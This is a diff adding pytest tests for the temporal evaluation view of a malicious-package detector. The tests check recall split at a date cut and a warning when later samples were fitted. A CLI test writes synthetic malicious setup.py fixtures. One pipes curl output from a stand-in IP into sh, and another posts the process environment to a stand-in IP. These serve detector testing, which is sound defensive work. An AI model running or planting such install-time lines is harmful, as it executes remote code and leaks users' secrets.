@@ -2,7 +2,10 @@
 
 from __future__ import annotations
 
+from dataclasses import replace
 from pathlib import Path
+
+import pytest
 
 from mphunter_gate.model import BENIGN, MALICIOUS, Detector, TrainingDoc, evaluate
 from mphunter_gate.model.evaluate import ranking_draws
@@ -68,3 +71,73 @@ def test_evaluate_writes_roc_and_precision_recall_pngs(tmp_path: Path) -> None:
     for p in result["plots"]:
         data = Path(p).read_bytes()
         assert data.startswith(b"\x89PNG\r\n\x1a\n") and len(data) > 1000
+
+
+def _dated(values: list[float], dates: list[str | None]) -> list[TrainingDoc]:
+    return [
+        replace(d, added=when)
+        for d, when in zip(_docs(values, MALICIOUS, "setup.py"), dates, strict=True)
+    ]
+
+
+def test_temporal_view_splits_recall_at_the_cut() -> None:
+    mal = _dated(
+        [0.9, 0.8, 0.2, 0.1, 0.7],
+        [
+            "2024-01-02T00:00:00Z",
+            "2024-03-01T00:00:00Z",
+            "2024-08-01T00:00:00Z",
+            "2024-09-01T00:00:00Z",
+            None,
+        ],
+    )
+    ben = _docs([0.1, 0.6], BENIGN, "setup.py")
+    result = evaluate(
+        Stub(), mal, ben, cut="2024-07-01", fitted_through="2024-03-01T00:00:00+00:00"
+    )
+    t = result["temporal"]
+    assert (t["before"]["recall"], t["after"]["recall"], t["undated"]["n_malicious"]) == (
+        1.0,
+        0.0,
+        1,
+    )
+    assert t["after_in_fit"] is False and "warning" not in t
+
+
+def test_temporal_view_warns_when_later_samples_were_fitted() -> None:
+    mal = _dated([0.9, 0.2], ["2024-01-02T00:00:00Z", "2024-08-01T00:00:00Z"])
+    for through in ("2024-08-30T00:00:00+00:00", None):
+        t = evaluate(Stub(), mal, [], cut="2024-07-01", fitted_through=through)["temporal"]
+        assert t["after_in_fit"] is True
+        assert "not a measure of unseen malware" in t["warning"]
+    assert "temporal" not in evaluate(Stub(), mal, [])
+
+
+def test_cli_evaluate_reports_the_temporal_view(
+    trained: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    import json
+
+    from mphunter_gate.cli import main
+
+    mal, ben = tmp_path / "mal", tmp_path / "ben"
+    bodies = {
+        "old-1.0": "import os\nos.system('curl http://198.51.100.2/x | sh')\n",
+        "new-1.0": "import os, urllib.request\n"
+        "urllib.request.urlopen('http://198.51.100.3', data=str(os.environ).encode())\n",
+    }
+    for name, body in bodies.items():
+        (mal / name).mkdir(parents=True)
+        (mal / name / "setup.py").write_text(body)
+    (ben / "fine-1.0").mkdir(parents=True)
+    (ben / "fine-1.0" / "setup.py").write_text("from setuptools import setup\nsetup(name='x')\n")
+    jsonl = tmp_path / "registry.jsonl"
+    jsonl.write_text(
+        '{"sample": "old-1.0", "added": "2024-01-05"}\n'
+        '{"sample": "new-1.0", "added": "2024-09-05"}\n'
+    )
+    args = ["evaluate", "--malicious", str(mal), "--benign", str(ben), "--models", str(trained)]
+    assert main([*args, "--added", str(jsonl), "--cut", "2024-07-01"]) == 0
+    t = json.loads(capsys.readouterr().out)["temporal"]
+    assert (t["before"]["n_malicious"], t["after"]["n_malicious"]) == (1, 1)
+    assert t["after_in_fit"] is True  # the synthetic models' fit carries no dates
